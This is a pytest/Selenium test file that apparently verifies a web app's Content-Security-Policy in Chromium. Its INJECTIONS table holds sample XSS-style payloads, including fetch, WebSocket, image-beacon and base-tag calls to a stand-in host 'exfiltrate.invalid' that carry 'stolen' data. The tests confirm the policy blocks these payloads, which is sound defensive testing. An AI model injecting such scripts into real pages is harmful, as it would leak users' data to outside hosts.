"""Content-Security-Policy in Chromium: our pages run under it, an injection does not.

Every browser test fails on a CSP violation (the `browsers` fixture); these
visit each kind of page on purpose, and show that the check is not vacuous.
"""

import pytest
from selenium.webdriver.common.by import By

from tests.browser.conftest import DEMO_PASSWORD, Browsers

pytestmark = pytest.mark.browser


def admin_login(page) -> None:
    page.driver.get(page.server.http + "/admin/login/")
    page.driver.find_element(By.ID, "id_username").send_keys("admin")
    page.driver.find_element(By.ID, "id_password").send_keys(DEMO_PASSWORD)
    page.driver.find_element(By.CSS_SELECTOR, "input[type=submit]").click()
    page.wait_visible("#site-name")


def admin_visit(page, path: str, ready: str = "#content") -> None:
    page.driver.get(page.server.http + path)
    page.wait_visible(ready)


def test_demo_and_admin_run_with_no_csp_violation(server, browsers):
    page = browsers.signed_in("admin", "admin")  # the socket is open: connect-src
    page.wait_pane("room:lobby")
    page.send("room:lobby", "under a strict policy")
    page.wait_message("room:lobby", "under a strict policy")

    admin_login(page)
    admin_visit(page, "/admin/")
    admin_visit(page, "/admin/accounts/user/")
    page.driver.find_element(By.ID, "action-toggle").click()  # actions.js
    # Date and time shortcuts, the permission selectors, the sessions inline.
    admin_visit(page, "/admin/accounts/user/1/change/", ".datetimeshortcuts")
    for shortcut in page.driver.find_elements(By.CSS_SELECTOR, ".datetimeshortcuts a"):
        shortcut.click()
    admin_visit(page, "/admin/realtime/room/1/change/", ".add-row a")
    page.driver.find_element(By.CSS_SELECTOR, ".add-row a").click()  # inlines.js
    admin_visit(page, "/admin/accounts/authsession/")

    assert browsers.csp_violations() == []


def test_api_docs_render_with_no_csp_violation(server, browsers):
    page = browsers.context("reader")
    page.driver.get(server.http + "/api/docs/")
    summaries = page.wait_for(
        lambda d: d.find_elements(By.CSS_SELECTOR, ".opblock-summary"),
        message="the API docs rendered no operation",
    )
    summaries[0].click()  # an operation's body: examples, schemas, highlighting
    page.wait_visible(".opblock-body")
    page.driver.find_element(By.CSS_SELECTOR, ".btn.authorize").click()
    page.wait_visible(".modal-ux")
    assert browsers.csp_violations() == []


# What an injected script would try, and the directive that refuses it.
INJECTIONS = {
    "script-src": "const s = document.createElement('script');"
    "s.textContent = 'window.__injected = true'; document.head.append(s);",
    "script-src handler": "document.body.insertAdjacentHTML('beforeend',"
    ' \'<img src="/nothing" onerror="window.__injected = true">\');',
    "script-src eval": "setTimeout('window.__injected = true', 0);",
    "connect-src fetch": "fetch('http://exfiltrate.invalid/?t=stolen').catch(() => {});",
    "connect-src ws": "try { new WebSocket('ws://exfiltrate.invalid/'); } catch (e) {}",
    "img-src": "new Image().src = 'http://exfiltrate.invalid/?t=stolen';",
    "base-uri": "const b = document.createElement('base');"
    "b.href = 'http://exfiltrate.invalid/'; document.head.append(b);",
    "object-src": "const o = document.createElement('object');"
    "o.data = '/static/authsocket/demo.css'; document.body.append(o);",
}


@pytest.mark.parametrize("path", ["/", "/admin/login/"], ids=["demo", "admin"])
def test_injected_code_is_refused_and_reported(server, browsers, path):
    page = browsers.context("victim")
    page.driver.get(server.http + path)
    for attempt, script in INJECTIONS.items():
        directive = attempt.split()[0]
        page.js(script)
        page.wait_for(
            lambda _d, d=directive: any(
                d in entry["message"] for entry in browsers.csp_violations()
            ),
            message=f"no violation of {directive} reported for {attempt}",
        )
        browsers.take_csp_violations()  # provoked on purpose
    assert page.js("return window.__injected === undefined") is True


def test_a_violation_nobody_took_is_what_the_teardown_fails_on(server, artifacts):
    pool = Browsers(server, artifacts)  # its own pool: the fixture's stays clean
    try:
        page = pool.context("victim")
        page.driver.get(server.http + "/admin/login/")
        page.js(INJECTIONS["script-src"])
        page.wait_for(lambda _d: pool.csp_violations(), message="nothing reported")
    finally:
        left = pool.close()
    assert [entry for entry in left if "script-src" in entry["message"]], left
